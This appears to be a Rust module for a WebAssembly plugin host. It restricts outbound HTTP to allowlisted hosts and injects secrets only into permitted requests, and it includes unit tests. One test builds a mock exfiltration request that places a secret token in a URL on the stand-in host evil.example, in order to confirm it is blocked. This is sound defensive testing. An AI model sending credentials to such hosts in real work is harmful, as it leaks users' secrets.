//! Outbound HTTP (`wasi:http`), only to allowed hosts, with secrets
//! substituted by the host on the way out.
//!
//! A plugin writes `{{secret:NAME}}` into a request's URL or header values;
//! the host replaces it with the value only when the request goes to an
//! allowed host, so a credential can never be sent elsewhere and never
//! enters the guest. A denied request never opens a connection.

use std::future::Future;
use std::sync::Arc;

use wasmtime::component::Linker;
use wasmtime_wasi_http::{Error, RequestOptions, WasiBody, WasiHttpHooks};

use super::secrets::SecretStore;
use crate::state::PluginState;

/// The egress policy of one instance.
#[derive(Debug, Clone)]
pub struct Egress {
    /// `host` (any port), `host:port`, or `*.domain` (any subdomain, any
    /// port: platforms hand out sockets on hosts such as
    /// `gateway-us-east1-b.discord.gg`), compared case-insensitively.
    pub allowed: Vec<String>,
    pub secrets: Arc<SecretStore>,
}

impl Egress {
    pub fn allows(&self, authority: &str) -> bool {
        let authority = authority.to_ascii_lowercase();
        let host = authority.rsplit_once(':').map(|(h, _)| h).unwrap_or(&authority);
        self.allowed.iter().any(|a| {
            let a = a.to_ascii_lowercase();
            match a.strip_prefix("*.") {
                Some(domain) => host.strip_suffix(domain).is_some_and(|sub| sub.len() > 1 && sub.ends_with('.')),
                None => a == authority || (!a.contains(':') && a == host),
            }
        })
    }

    /// Replaces every `{{secret:NAME}}` in `text`; an unknown name is an error.
    pub fn substitute(&self, text: &str) -> Result<String, String> {
        let mut out = String::with_capacity(text.len());
        let mut rest = text;
        while let Some(start) = rest.find("{{secret:") {
            out.push_str(&rest[..start]);
            let after = &rest[start + "{{secret:".len()..];
            let end = after.find("}}").ok_or("unterminated {{secret:…}} placeholder")?;
            let name = &after[..end];
            let value = self.secrets.value(name).ok_or_else(|| format!("no secret named `{name}`"))?;
            out.push_str(value);
            rest = &after[end + 2..];
        }
        out.push_str(rest);
        Ok(out)
    }

    fn prepare(&self, mut request: http::Request<WasiBody>) -> Result<http::Request<WasiBody>, String> {
        let authority = request.uri().authority().map(|a| a.as_str().to_string()).unwrap_or_default();
        if !self.allows(&authority) {
            return Err(format!("{authority} is not an allowed host"));
        }
        let uri = request.uri().to_string();
        if uri.contains("{{secret:") {
            let replaced = self.substitute(&uri)?;
            *request.uri_mut() = replaced.parse().map_err(|e| format!("invalid URL after substitution: {e}"))?;
        }
        for value in request.headers_mut().values_mut() {
            if let Ok(text) = value.to_str() {
                if text.contains("{{secret:") {
                    let replaced = self.substitute(text)?;
                    *value = replaced.parse().map_err(|_| "invalid header value after substitution".to_string())?;
                }
            }
        }
        Ok(request)
    }
}

type SendFuture = Box<
    dyn Future<Output = Result<(http::Response<WasiBody>, Box<dyn Future<Output = Result<(), Error>> + Send>), Error>>
        + Send,
>;

impl WasiHttpHooks for Egress {
    fn send_request(
        &mut self,
        request: http::Request<WasiBody>,
        options: Option<RequestOptions>,
        fut: Box<dyn Future<Output = Result<(), Error>> + Send>,
    ) -> SendFuture {
        let _ = fut;
        let prepared = self.prepare(request);
        Box::new(async move {
            let request = match prepared {
                Ok(r) => r,
                Err(why) => {
                    tracing::warn!(%why, "outbound request denied");
                    return Err(Error::HttpRequestDenied);
                }
            };
            use http_body_util::BodyExt;
            let (res, io) = wasmtime_wasi_http::default_send_request(request, options).await?;
            Ok((res.map(BodyExt::boxed_unsync), Box::new(io) as Box<dyn Future<Output = _> + Send>))
        })
    }
}

pub fn add_to_linker(linker: &mut Linker<PluginState>) -> wasmtime::Result<()> {
    wasmtime_wasi_http::p2::add_only_http_to_linker_async(linker)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn egress() -> Egress {
        Egress {
            allowed: vec!["api.telegram.org".into(), "127.0.0.1:8080".into(), "*.discord.gg".into()],
            secrets: SecretStore::from_pairs([("TOKEN".to_string(), "s3cr3t".to_string())]),
        }
    }

    #[test]
    fn allowlist_matches_host_or_host_port() {
        let e = egress();
        assert!(e.allows("api.telegram.org") && e.allows("API.telegram.org:443"));
        assert!(e.allows("127.0.0.1:8080"));
        assert!(!e.allows("127.0.0.1:8081") && !e.allows("evil.example") && !e.allows(""));
        assert!(e.allows("gateway-us-east1-b.discord.gg") && e.allows("a.b.discord.gg:443"));
        assert!(!e.allows("discord.gg") && !e.allows("evildiscord.gg") && !e.allows("discord.gg.evil.example"));
    }

    #[test]
    fn secrets_substitute_only_for_allowed_hosts() {
        let e = egress();
        let req = http::Request::get("https://api.telegram.org/bot{{secret:TOKEN}}/getMe")
            .header("authorization", "Bearer {{secret:TOKEN}}")
            .body(WasiBody::default())
            .unwrap();
        let out = e.prepare(req).unwrap();
        assert_eq!(out.uri().path(), "/bots3cr3t/getMe");
        assert_eq!(out.headers()["authorization"], "Bearer s3cr3t");
        let req = http::Request::get("https://evil.example/{{secret:TOKEN}}").body(WasiBody::default()).unwrap();
        assert!(e.prepare(req).is_err(), "never substituted for a host that is not allowed");
        assert!(e.substitute("{{secret:NOPE}}").is_err());
    }
}
